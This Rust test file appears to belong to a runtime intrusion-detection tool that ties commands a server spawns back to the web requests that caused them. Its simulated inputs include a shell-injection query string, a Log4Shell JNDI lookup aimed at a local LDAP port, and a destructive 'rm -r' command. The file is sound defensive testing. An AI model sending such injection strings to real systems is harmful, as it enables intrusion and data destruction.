//! What each attribution rests on, and what may be done about it.

use clew_protocol::Sequence;
use clew_protocol::incident::{IncidentAction, Loss, StepKind};
use clew_protocol::kernel::{Decision, Lineage, LostClass, ProcessKey, Strength};
use clew_protocol::verdict::Proof;

use crate::scene::{BACKEND, Scene, address, lineage};

#[test]
fn content_names_the_request() {
    let mut scene = Scene::new();
    scene.start(1, "/ping?host=1.1.1.1; touch /tmp/marker-1\n");
    scene.start(2, "/fine\n");
    scene.read(1, 1);
    scene.read(2, 2);
    scene.exec(1, 1, "ping 1.1.1.1; touch /tmp/marker-1");
    assert_eq!(scene.condemned(), [1]);
    assert_eq!(scene.banned(), [address(1)]);
    assert!(scene.held().is_empty());
    let reports = scene.reports();
    assert_eq!(reports[0].proof, Proof::Content);
    assert_eq!(reports[0].action, IncidentAction::Banned);
    assert_eq!(
        reports[0].evidence.as_deref(),
        Some("1.1.1.1; touch /tmp/marker-1")
    );
    let StepKind::Exec(exec) = &reports[0].steps[0].what else {
        panic!("no exec")
    };
    assert_eq!(exec.env_vars, ["KEY=<redacted>"]);
}

/// Log4Shell: the command line holds nothing of the request, the connection before it does.
#[test]
fn a_connection_is_evidence_for_what_follows_it() {
    let mut scene = Scene::new();
    scene.start(1, "/\n${jndi:ldap://127.0.0.1:1389/a}\n");
    scene.start(2, "/\nMozilla/5.0\n");
    scene.read(1, 1);
    scene.read(2, 2);
    scene.connect(1, 1, 1389);
    scene.exec(1, 1, "id");
    assert_eq!(scene.condemned(), [1]);
    let reports = scene.reports();
    assert_eq!(reports[0].evidence.as_deref(), Some("127.0.0.1:1389"));
    assert_eq!(reports[0].steps.len(), 2);
}

#[test]
fn the_same_payload_twice_is_a_doubt() {
    let mut scene = Scene::new();
    for sequence in [1, 2] {
        scene.start(sequence, "/run?cmd=touch /tmp/same-marker\n");
        scene.read(sequence, sequence as u32);
    }
    scene.exec(1, 1, "touch /tmp/same-marker");
    assert!(scene.condemned().is_empty() && scene.banned().is_empty());
    assert!(scene.held().is_empty());
    let reports = scene.reports();
    assert_eq!(reports[0].proof, Proof::Candidates);
    assert_eq!(reports[0].action, IncidentAction::Stopped);
    assert_eq!(reports[0].candidates.len(), 2);
}

/// What the rules thought of a request is no proof, and nobody is banned for it; it says whom to look at.
#[test]
fn among_candidates_the_one_that_rules_scored_comes_first() {
    let mut scene = Scene::new();
    scene.start(1, "/run?cmd=touch /tmp/same-marker\n");
    scene.start_scored(2, "/run?cmd=touch /tmp/same-marker\n", 5);
    scene.start_scored(3, "/run?cmd=touch /tmp/same-marker\n", 15);
    for sequence in [1, 2, 3] {
        scene.read(sequence, sequence as u32);
    }
    scene.exec(1, 1, "touch /tmp/same-marker");
    assert!(scene.condemned().is_empty() && scene.banned().is_empty());
    let reports = scene.reports();
    assert_eq!(reports[0].proof, Proof::Candidates);
    let named: Vec<_> = reports[0]
        .candidates
        .iter()
        .map(|it| (it.sequence.0, it.edge.score))
        .collect();
    assert_eq!(named, [(3, 15), (2, 5), (1, 0)]);
}

/// Two attackers with payloads alike but for the end: the whole of one is in the event.
#[test]
fn the_longer_match_explains_the_shorter() {
    let mut scene = Scene::new();
    for sequence in [1, 2] {
        scene.start(
            sequence,
            &format!("/run?cmd=touch /tmp/marker-{sequence}\n"),
        );
        scene.read(sequence, sequence as u32);
    }
    scene.exec(2, 2, "touch /tmp/marker-2");
    assert_eq!(scene.condemned(), [2]);
}

#[test]
fn two_requests_with_bytes_of_their_own_are_a_doubt() {
    let mut scene = Scene::new();
    scene.start(1, "/run?cmd=touch /tmp/marker-1\n");
    scene.start(2, "/run?cmd=rm -r /srv/everything\n");
    scene.read(1, 1);
    scene.read(2, 2);
    scene.exec(1, 1, "touch /tmp/marker-1; rm -r /srv/everything");
    assert!(scene.condemned().is_empty());
}

#[test]
fn lineage_needs_a_thousand_lessons() {
    for (lessons, proof) in [(900, Proof::Candidates), (2100, Proof::Lineage)] {
        let mut scene = Scene::new();
        scene.teach_blocking(10, lessons);
        scene.start(1, "/a\n");
        scene.read(1, 1);
        scene.exec(1, 1, "id");
        assert_eq!(scene.reports()[0].proof, proof, "{lessons} lessons");
    }
}

/// A process with one thread never has two requests; that it leaves them waiting is all there is to see.
#[test]
fn those_who_waited_are_lessons_too() {
    for (patience, named) in [(3_000_000, [9000].as_slice()), (0, &[])] {
        let mut scene = Scene::new();
        scene.start(1, "lesson\n");
        scene.read(1, 1);
        for sequence in 2..1100 {
            scene.start(sequence, "lesson\n");
            scene.now += patience;
            scene.end(sequence - 1);
            scene.read(sequence, 1);
        }
        scene.end(1099);
        scene.start(9000, "/x\n");
        scene.read(9000, 1);
        scene.exec(9000, 1, "id");
        assert_eq!(scene.condemned(), named);
    }
}

#[test]
fn one_violation_revokes_lineage_for_good() {
    let mut scene = Scene::new();
    scene.teach_blocking(10, 2100);
    scene.start(3, "/async\n");
    scene.read(3, 1);
    scene.start(4, "/async\n");
    scene.read_when(4, 1, true);
    scene.end(3);
    scene.end(4);
    scene.teach_blocking(10_000, 2100);
    scene.start(1, "/a\n");
    scene.read(1, 1);
    scene.exec(1, 1, "id");
    assert!(scene.condemned().is_empty());
    assert_eq!(scene.reports()[0].proof, Proof::Candidates);
}

/// A thread whose request was cut, or whose client hung up, has not answered it and goes on.
#[test]
fn cut_requests_are_no_violation() {
    let mut scene = Scene::new();
    scene.teach_blocking(10, 2100);
    scene.start(3, "/run?touch /tmp/marker-3\n");
    scene.read(3, 1);
    scene.exec(3, 1, "touch /tmp/marker-3");
    scene.start(4, "/abandoned\n");
    scene.read_when(4, 1, true);
    scene.end(4);
    scene.start(1, "/a\n");
    scene.read_when(1, 1, true);
    scene.exec(1, 1, "id");
    assert_eq!(scene.condemned(), [3, 1]);
}

/// A thread that works on one request at a time, as far as is known, has read a second one.
fn two_on_one_thread() -> Scene {
    let mut scene = Scene::new();
    scene.teach_blocking(10, 2100);
    scene.start(1, "/a\n");
    scene.read(1, 1);
    scene.start(2, "/b\n");
    scene.read(2, 1);
    scene
}

/// The first time an event loop that has looked like a blocking server interleaves: A is read,
/// then B, then A's continuation starts a program. B must not be blamed.
#[test]
fn a_thread_with_two_open_requests_names_none() {
    let mut scene = two_on_one_thread();
    scene.exec(2, 1, "id");
    scene.now += 110_000_000;
    scene.tick();
    assert!(scene.condemned().is_empty());
    assert_eq!(scene.reports()[0].proof, Proof::Candidates);
}

/// The thread had answered A before it read B; the proxy says so a moment after B's program.
#[test]
fn the_end_of_the_request_before_is_waited_for() {
    let mut scene = two_on_one_thread();
    scene.start(3, "/c\n");
    scene.read(3, 2);
    scene.exec(2, 1, "id");
    assert!(scene.condemned().is_empty());
    assert_eq!(scene.held(), [1, 2, 3]);
    scene.end(1);
    assert_eq!(scene.condemned(), [2]);
    assert_eq!(scene.released(), [1, 2, 3]);
}

/// A response that is held itself tells of its end: it would be waited for in vain.
#[test]
fn a_held_response_that_is_whole_ends_the_wait() {
    let mut scene = two_on_one_thread();
    scene.exec(2, 1, "id");
    assert_eq!(scene.held(), [1, 2]);
    scene.answered(1);
    assert_eq!(scene.condemned(), [2]);
    scene.end(1);
    assert_eq!(scene.released(), [1, 2]);
    assert_eq!(scene.reports()[0].proof, Proof::Lineage);
}

/// A loaded proxy tells of the end late; what the request shows of itself is looked at after a millisecond.
#[test]
fn content_does_not_wait_for_the_end_of_the_request_before() {
    let mut scene = Scene::new();
    scene.teach_blocking(10, 2100);
    scene.start(8000, "/a\n");
    scene.read(8000, 1);
    for (sequence, inputs) in [(8001, "/run?touch /srv/marker-1\n"), (8002, "/x=hidden\n")] {
        scene.start(sequence, inputs);
        scene.read(sequence, 1);
    }
    scene.end(8002);
    scene.exec(8001, 1, "touch /srv/marker-1");
    assert!(scene.condemned().is_empty());
    scene.now += 1_500_000;
    scene.tick();
    assert_eq!(scene.condemned(), [8001]);
}

#[test]
fn threads_and_processes_are_weaker_than_readers() {
    for strength in [Strength::Thread, Strength::Process] {
        let mut scene = Scene::new();
        scene.teach_blocking(10, 2100);
        scene.start(1, "/a\n");
        scene.read(1, 1);
        scene.exec_with(1, 1, "id", strength, Decision::Killed);
        assert!(scene.condemned().is_empty(), "{strength:?}");
    }
}

#[test]
fn alone_means_alone_for_a_minute() {
    let mut scene = Scene::new();
    scene.start(2, "/before\n");
    scene.read(2, 1);
    scene.end(2);
    scene.start(1, "/a\n");
    scene.read(1, 1);
    scene.exec(1, 1, "id");
    assert!(scene.condemned().is_empty());

    let mut scene = Scene::new();
    scene.start(2, "/before\n");
    scene.read(2, 1);
    scene.end(2);
    scene.forget();
    scene.start(1, "/a\n");
    scene.read(1, 1);
    scene.exec(1, 1, "id");
    assert_eq!(scene.condemned(), [1]);
    assert_eq!(scene.reports()[0].proof, Proof::Sole);
}

/// A request that went on from a web server to a worker behind it: what each of the two does is its doing,
/// and how each works is learned for itself.
#[test]
fn a_request_has_several_readers() {
    let worker = ProcessKey {
        tgid: 200,
        start: 1,
    };
    let mut scene = Scene::new();
    for sequence in [1, 2] {
        scene.start(sequence, &format!("/run?touch /tmp/marker-{sequence}\n"));
        scene.read(sequence, 1);
        let now = scene.now;
        scene.read_by(worker, now, sequence, 200, false);
    }
    let at = scene.now + 1;
    for (backend, tid, marker) in [(worker, 200, 1), (BACKEND, 1, 2)] {
        let lineage = Lineage {
            backend,
            ..lineage(2, tid, Strength::Process)
        };
        let command = format!("touch /tmp/marker-{marker}");
        scene.exec_at(at, lineage, &command, Decision::Killed);
    }
    assert_eq!(scene.condemned(), [1, 2]);
}

/// What an interpreter runs for one service may be an event loop, and for another not.
#[test]
fn what_a_program_teaches_holds_for_its_service() {
    let elsewhere = ProcessKey {
        tgid: 200,
        start: 1,
    };
    let mut scene = Scene::new();
    scene.teach_blocking(10, 2100);
    for sequence in [3000, 3001] {
        scene.start_elsewhere(sequence, "/a\n");
        let now = scene.now;
        scene.read_by(elsewhere, now, sequence, 200, sequence == 3001);
    }
    scene.exec_at(
        scene.now + 1,
        Lineage {
            backend: elsewhere,
            ..lineage(3001, 200, Strength::Reader)
        },
        "id",
        Decision::Killed,
    );
    assert!(scene.condemned().is_empty());
    scene.start(1, "/a\n");
    scene.start(2, "/b\n");
    scene.read(1, 1);
    scene.read(2, 2);
    scene.exec(1, 1, "id");
    assert_eq!(scene.condemned(), [1]);
    assert!(scene.reports().iter().any(|it| it.proof == Proof::Lineage));
}

/// A record says what it may lack, as long as that may be felt.
#[test]
fn what_was_lost_is_said_for_a_minute() {
    let mut scene = Scene::new();
    scene.lose_reads();
    scene.start(1, "/a\n");
    scene.read(1, 1);
    scene.exec(1, 1, "id");
    let lost = Loss {
        class: LostClass::Bound,
        records: 1,
    };
    assert_eq!(scene.reports()[0].degraded, [lost]);
    scene.forget();
    scene.start(2, "/a\n");
    scene.read(2, 2);
    scene.exec(2, 2, "id");
    let reports = scene.reports();
    assert!(reports.last().is_some_and(|it| it.degraded.is_empty()));
}

#[test]
fn lost_reads_leave_candidates() {
    let mut scene = Scene::new();
    scene.teach_blocking(10, 2100);
    scene.start(1, "/run?touch /tmp/marker-1\n");
    scene.read(1, 1);
    scene.lose_reads();
    scene.exec(1, 1, "touch /tmp/marker-1");
    assert!(scene.condemned().is_empty());
    assert!(scene.held().is_empty());
}

#[test]
fn an_unknown_request_is_not_banned() {
    let mut scene = Scene::new();
    scene.read(1, 1);
    scene.exec(1, 1, "id");
    assert!(scene.condemned().is_empty() && scene.banned().is_empty());
    assert!(scene.held().is_empty());
}

/// The request is stopped, whatever ran for it; banned is who sent what ran.
#[test]
fn what_another_has_stored_bans_nobody() {
    let mut scene = Scene::new();
    scene.teach_blocking(10, 2100);
    scene.start(8000, "/page/7\n");
    scene.read(8000, 1);
    scene.exec(8000, 1, "touch /srv/marker-1");
    assert_eq!(scene.condemned(), [8000]);
    assert!(scene.banned().is_empty());
    scene.start(8001, "/run?touch /srv/marker-2\n");
    scene.read(8001, 2);
    scene.exec(8001, 2, "touch /srv/marker-2");
    scene.tick();
    assert_eq!(scene.banned(), [address(8001)]);
}

#[test]
fn one_who_stored_it_and_left_is_not_banned() {
    let mut scene = Scene::new();
    scene.start(1, "/store?touch /srv/marker-1\n");
    scene.read(1, 1);
    scene.end(1);
    scene.start(2, "/page/7\n");
    scene.read(2, 1);
    scene.now += 40_000_000;
    scene.exec(2, 1, "touch /srv/marker-1");
    assert!(scene.banned().is_empty());
}

/// A health check that goes past Clew reads nothing of a request, and leaves the only one not alone.
#[test]
fn with_a_stranger_there_content_names_and_being_alone_does_not() {
    for (command, named) in [("touch /srv/marker-1", [1].as_slice()), ("id", &[])] {
        let mut scene = Scene::new();
        scene.start(1, "/run?touch /srv/marker-1\n");
        scene.read(1, 1);
        let mut lineage = lineage(1, 1, Strength::Reader);
        lineage.recent.push(Sequence::STRANGER);
        scene.exec_at(scene.now + 1000, lineage, command, Decision::Killed);
        assert_eq!(scene.condemned(), named);
    }
}

#[test]
fn victims_and_neighbours_are_not_banned() {
    for which in [0, 1] {
        let mut scene = Scene::new();
        scene.start_as(1, "/run?touch /tmp/marker-1\n", |client| match which {
            0 => client.cross_site = true,
            _ => client.shared = true,
        });
        scene.read(1, 1);
        scene.exec(1, 1, "touch /tmp/marker-1");
        assert_eq!(scene.condemned(), [1]);
        assert!(scene.banned().is_empty());
        assert_eq!(scene.reports()[0].action, IncidentAction::Cancelled);
    }
}

#[test]
fn observe_reports_and_does_nothing() {
    let mut scene = Scene::new();
    scene.start(1, "/run?touch /tmp/marker-1\n");
    scene.read(1, 1);
    scene.exec_with(
        1,
        1,
        "touch /tmp/marker-1",
        Strength::Reader,
        Decision::Observed,
    );
    assert!(scene.condemned().is_empty() && scene.banned().is_empty());
    let reports = scene.reports();
    assert_eq!(reports[0].action, IncidentAction::Observed);
    assert_eq!(reports[0].proof, Proof::Content);
}

#[test]
fn one_lineage_is_one_incident() {
    let mut scene = Scene::new();
    scene.start(1, "/run?touch /tmp/marker-1\n");
    scene.read(1, 1);
    scene.exec(1, 1, "touch /tmp/marker-1");
    scene.exec(1, 1, "touch /tmp/marker-1");
    scene.exec(1, 1, "again");
    assert_eq!((scene.condemned().len(), scene.banned().len()), (1, 1));
    let reports = scene.reports();
    assert_eq!(reports.last().map(|last| last.steps.len()), Some(3));
    assert!(reports.iter().all(|report| report.id == reports[0].id));
}

#[test]
fn allowed_programs_are_no_incident() {
    let mut scene = Scene::new();
    scene.start(1, "/\n");
    scene.read(1, 1);
    scene.exec_with(1, 1, "convert", Strength::Reader, Decision::Allowed);
    scene.connect(1, 1, 5432);
    assert!(scene.reports().is_empty());
}
